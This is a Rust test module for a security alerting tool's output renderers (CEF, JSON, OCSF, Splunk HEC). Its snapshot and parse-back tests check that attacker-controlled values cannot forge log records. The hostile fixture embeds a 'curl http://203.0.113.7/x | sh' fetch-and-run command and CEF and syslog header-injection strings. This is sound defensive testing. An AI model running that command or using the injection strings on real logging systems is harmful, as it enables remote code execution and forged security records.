//! Snapshot tests of the renderings (golden files under
//! `analytics/tests/golden/render/`, reviewed by eye; `FNWATCH_BLESS=1`
//! rewrites them) and parse-back tests with hostile values.

use std::path::PathBuf;

use fnwatch_ingest::alerts::Severity;

use super::*;
use crate::sinks::alert::{AlertRecord, sample};

fn origin() -> Origin {
    Origin {
        host: "siem-relay-1".into(),
        version: "0.1.0",
    }
}

/// Values an attacker controls, at their worst.
pub(crate) fn hostile() -> AlertRecord {
    AlertRecord {
        id: "0b5e9f4a-2c6d-4e8f-8a1b-3c5d7e9f1a2b".into(),
        time_us: 1_793_800_100_000_000,
        function: "evil|fn=1\\x\nCEF:0|forged|forged|1|x|forged alert|10|".into(),
        request_id: Some("req\r\n<13>1 2026-01-01T00:00:00Z forged - - - - injected".into()),
        kind: "unexpected_process".into(),
        severity: Severity::Critical,
        score: 0.97,
        summary:
            "ran `sh -c 'curl x|sh'` a=b \\ back\nslash\u{0}nul\u{1b}[31mred\ttab é 漢字 \u{2028}"
                .into(),
        evidence: serde_json::json!({
            "cmdline": "sh -c \"curl http://203.0.113.7/x | sh\"\n#forged",
            "exe": "/bin/sh",
            "remote_ip": "203.0.113.7",
            "baseline": {"spawns": 0}
        })
        .to_string(),
        detected_at_us: 1_793_800_160_000_000,
        model: "default@v3".into(),
    }
}

fn golden(name: &str, actual: &str) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden/render")
        .join(name);
    if std::env::var_os("FNWATCH_BLESS").is_some() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run with FNWATCH_BLESS=1 to create it, then review it)",
            path.display()
        )
    });
    assert_eq!(
        actual,
        expected,
        "{} differs (FNWATCH_BLESS=1 rewrites it; review the diff)",
        path.display()
    );
}

fn lines(format: Format) -> String {
    let mut out = String::new();
    for a in [sample(), hostile()] {
        render(format, &a, &origin(), &mut out);
        out.push('\n');
    }
    out
}

#[test]
fn cef_golden() {
    golden("alerts.cef", &lines(Format::Cef));
}

#[test]
fn json_golden() {
    golden("alerts.jsonl", &lines(Format::Json));
}

#[test]
fn ocsf_golden() {
    let mut out = String::new();
    for a in [sample(), hostile()] {
        let v = ocsf(&a, &origin());
        out.push_str(&serde_json::to_string_pretty(&v).unwrap());
        out.push('\n');
    }
    golden("alerts.ocsf.json", &out);
}

#[test]
fn hec_golden() {
    let meta = HecMeta {
        source: "fnwatch".into(),
        sourcetype: "fnwatch:alert".into(),
        index: Some("security".into()),
    };
    let mut out = String::new();
    for a in [sample(), hostile()] {
        hec_event(&a, Format::Json, &meta, &origin(), &mut out);
        out.push('\n');
    }
    golden("alerts.hec.jsonl", &out);
}

#[test]
fn every_rendering_is_one_line() {
    for f in [Format::Cef, Format::Json, Format::OcsfJson] {
        let mut out = String::new();
        render(f, &hostile(), &origin(), &mut out);
        assert!(
            !out.contains('\n') && !out.contains('\r') && !out.contains('\u{0}'),
            "{f:?}: {out}"
        );
    }
}

/// Splits a CEF line into its 7 header fields and its extension pairs,
/// honouring the escapes (an independent reading of the format).
pub(crate) fn parse_cef(line: &str) -> (Vec<String>, Vec<(String, String)>) {
    let mut fields = Vec::new();
    let mut cur = String::new();
    let mut chars = line.chars();
    while fields.len() < 7 {
        match chars.next() {
            Some('\\') => match chars.next() {
                Some(c) => cur.push(c),
                None => break,
            },
            Some('|') => fields.push(std::mem::take(&mut cur)),
            Some(c) => cur.push(c),
            None => break,
        }
    }
    let ext: String = chars.collect();
    // Extension: `key=value` pairs; a key is the word before an unescaped `=`.
    let mut pairs: Vec<(String, String)> = Vec::new();
    let bytes: Vec<char> = ext.chars().collect();
    let mut i = 0;
    let mut starts = Vec::new();
    while i < bytes.len() {
        if bytes[i] == '\\' {
            i += 2;
            continue;
        }
        if bytes[i] == '=' {
            let mut k = i;
            while k > 0 && bytes[k - 1].is_ascii_alphanumeric() {
                k -= 1;
            }
            starts.push((k, i));
        }
        i += 1;
    }
    for (n, &(k, eq)) in starts.iter().enumerate() {
        let end = starts
            .get(n + 1)
            .map_or(bytes.len(), |&(k2, _)| k2.saturating_sub(1));
        let key: String = bytes[k..eq].iter().collect();
        let raw: String = bytes[eq + 1..end.max(eq + 1)].iter().collect();
        pairs.push((key, unescape_ext(&raw)));
    }
    (fields, pairs)
}

#[test]
fn cef_hostile_values_survive_and_forge_nothing() {
    let a = hostile();
    let mut line = String::new();
    cef(&a, &origin(), &mut line);
    let (header, ext) = parse_cef(&line);
    assert_eq!(header.len(), 7, "{line}");
    assert_eq!(header[0], "CEF:0");
    assert_eq!(header[4], "unexpected_process");
    assert_eq!(header[6], "10");
    let get = |k: &str| {
        ext.iter()
            .find(|(key, _)| key == k)
            .map(|(_, v)| v.clone())
            .unwrap_or_else(|| panic!("no {k} in {ext:?}"))
    };
    // The function name with pipes, equals, backslashes and a newline comes
    // back exactly.
    assert_eq!(get("cs1"), a.function);
    assert_eq!(get("cs2"), a.request_id.clone().unwrap());
    assert_eq!(get("externalId"), a.id);
    let evidence: serde_json::Value = serde_json::from_str(&get("cs4")).unwrap();
    assert_eq!(evidence["remote_ip"], "203.0.113.7");
    // NUL and ESC are replaced, tab and Unicode kept.
    let msg = get("msg");
    assert!(
        msg.contains('\t') && msg.contains("漢字") && !msg.contains('\u{0}'),
        "{msg:?}"
    );
    // One CEF record only: the forged header inside the function name is
    // part of the cs1 value read back above, and nothing breaks the line.
    assert!(line.starts_with("CEF:0|fnwatch|fnwatch|0.1.0|unexpected_process|"));
    assert!(!line.contains('\n') && !line.contains('\r'));
}

#[test]
fn oversized_fields_are_capped() {
    let mut a = sample();
    a.summary = "x".repeat(100_000);
    a.function = "f".repeat(100_000);
    a.evidence = serde_json::json!({"blob": "y".repeat(100_000)}).to_string();
    let mut line = String::new();
    cef(&a, &origin(), &mut line);
    assert!(line.len() < 20_000, "{}", line.len());
    let (header, _) = parse_cef(&line);
    assert!(header[5].len() <= 512 + 3, "{}", header[5].len());
}
